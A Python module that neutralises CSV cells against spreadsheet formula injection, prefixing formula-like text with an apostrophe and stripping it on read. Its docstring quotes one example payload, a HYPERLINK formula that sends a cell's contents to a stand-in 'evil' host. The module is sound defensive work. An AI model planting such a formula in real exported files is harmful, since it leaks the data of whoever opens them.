"""Formula neutralisation for CSV cells (CSV injection, OWASP "CSV Injection").

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some of them, tab or carriage return) as a formula, so a supplier's part description
``=HYPERLINK("http://evil/?"&A1)`` written as it came would run on a buyer's desk.
The hub writes such a text cell with a leading apostrophe, which every spreadsheet
shows as text, and strips that apostrophe again when it reads its own CSV back.

Numbers stay numbers: quantities (the decimal fields of a mapping) are never touched,
and a text cell that is a plain number (``-5``, ``+12,5``) is no formula either, so it
is left as it is. Only what a spreadsheet could evaluate as a formula is changed.

The rule is reversible: a text that already starts with apostrophes followed by one of
the trigger characters gets one apostrophe more, and reading takes exactly one away.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = "=+-@\t\r"
PREFIX = "'"
_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_WRITTEN = re.compile(r"^'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def neutralise(text: str) -> str:
    """Return ``text`` as a CSV cell that no spreadsheet runs as a formula.

    ``=1+1`` -> ``'=1+1``; ``-5`` and ``Bolt M8`` stay as they are.
    """
    if not text or _PLAIN_NUMBER.match(text) or not _RISKY.match(text):
        return text
    return PREFIX + text


def restore(text: str) -> str:
    """Undo :func:`neutralise` for a cell read from a CSV the hub (or a careful sender) wrote."""
    if _WRITTEN.match(text):
        return text[1:]
    return text


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """Neutralise every text cell of a row; numbers (int, Decimal, float) pass unchanged."""
    return [neutralise(v) if isinstance(v, str) else v for v in values]
